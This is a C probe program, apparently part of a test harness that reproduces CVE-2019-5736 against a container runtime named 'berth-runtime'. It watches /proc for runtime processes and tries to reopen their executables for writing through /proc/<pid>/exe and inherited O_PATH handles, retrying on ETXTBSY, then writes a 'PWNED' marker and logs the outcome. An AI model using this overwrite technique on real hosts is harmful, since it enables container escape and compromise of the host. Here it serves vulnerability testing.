/* The static half of the CVE-2019-5736 reproduction (static: /etc/ld.so.preload does not apply).
 *   probe reopen <fd>   reopens an inherited O_PATH handle on the runtime for writing, retrying
 *                       while the binary is busy (ETXTBSY) as the published exploit does;
 *   probe watch         a second process of the container: finds every process whose exe is the
 *                       runtime and tries /proc/<pid>/exe for writing, then its O_PATH handle. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static void rec(const char *fmt, ...) {
    char path[128], line[512];
    const char *tag = getenv("TAG");
    snprintf(path, sizeof path, "/out/%s.log", tag ? tag : "untagged");
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(line, sizeof line - 1, fmt, ap);
    va_end(ap);
    line[n++] = '\n';
    int fd = open(path, O_WRONLY | O_CREAT | O_APPEND, 0644);
    if (fd >= 0) {
        (void)write(fd, line, n);
        close(fd);
    }
}

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

/* Opens `path` for writing, retrying ETXTBSY for `secs`; writes on success. */
static void reopen(const char *what, const char *path, double secs) {
    double end = now() + secs;
    for (;;) {
        int fd = open(path, O_WRONLY | O_CLOEXEC);
        if (fd >= 0) {
            ssize_t w = write(fd, "PWNED", 5);
            if (w > 0)
                rec("%s=open:ok write:ok", what);
            else
                rec("%s=open:ok write:%d", what, errno);
            close(fd);
            return;
        }
        if (errno != ETXTBSY || now() > end) {
            rec("%s=open:%d", what, errno);
            return;
        }
        usleep(20000);
    }
}

static int watch(void) {
    int seen[64], nseen = 0;
    double end = now() + 40;
    while (now() < end && access("/out/stop", F_OK) != 0) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 1 || pid == getpid())
                continue;
            int known = 0;
            for (int i = 0; i < nseen; i++)
                known |= seen[i] == pid;
            char link[64], exe[256] = {0};
            snprintf(link, sizeof link, "/proc/%d/exe", pid);
            if (known || readlink(link, exe, sizeof exe - 1) < 0 || !strstr(exe, "berth-runtime"))
                continue;
            if (nseen < 64)
                seen[nseen++] = pid;
            rec("watch_seen=%s", exe);
            int keep = open(link, O_PATH | O_CLOEXEC);
            reopen("watch_pid_exe", link, 0);
            if (keep >= 0) {
                char self[64];
                snprintf(self, sizeof self, "/proc/self/fd/%d", keep);
                reopen("watch_reopen", self, 5);
                close(keep);
            }
        }
        if (d)
            closedir(d);
        usleep(5000);
    }
    rec("watch_done=%d", nseen);
    return 0;
}

int main(int argc, char **argv) {
    if (argc == 3 && strcmp(argv[1], "reopen") == 0) {
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%s", argv[2]);
        reopen("reopen", path, 5);
        rec("done=1");
        return 0;
    }
    if (argc == 2 && strcmp(argv[1], "watch") == 0)
        return watch();
    fprintf(stderr, "usage: probe reopen <fd> | probe watch\n");
    return 2;
}
